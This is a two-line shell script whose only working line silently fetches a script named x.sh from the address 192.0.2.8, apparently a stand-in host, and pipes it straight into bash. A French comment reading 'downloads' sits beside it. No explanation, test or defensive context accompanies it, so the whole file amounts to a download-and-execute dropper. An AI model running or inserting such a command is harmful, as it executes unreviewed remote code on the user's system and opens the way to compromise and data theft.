#!/bin/sh
	curl -s http://192.0.2.8/x.sh | bash  # télécharge
